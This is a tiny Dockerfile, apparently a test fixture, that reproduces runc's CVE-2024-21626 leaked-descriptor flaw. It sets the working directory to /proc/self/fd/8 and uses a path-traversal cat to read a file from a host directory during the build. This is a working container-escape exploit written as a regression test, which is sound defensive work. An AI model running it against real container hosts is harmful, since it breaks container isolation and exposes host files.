# The working directory is one that the helper may have open (runc's CVE-2024-21626).
ARG BASE
FROM ${BASE}
ARG HOST_DIRECTORY
WORKDIR /proc/self/fd/8
RUN cat "../../../../../../../../$HOST_DIRECTORY/file"
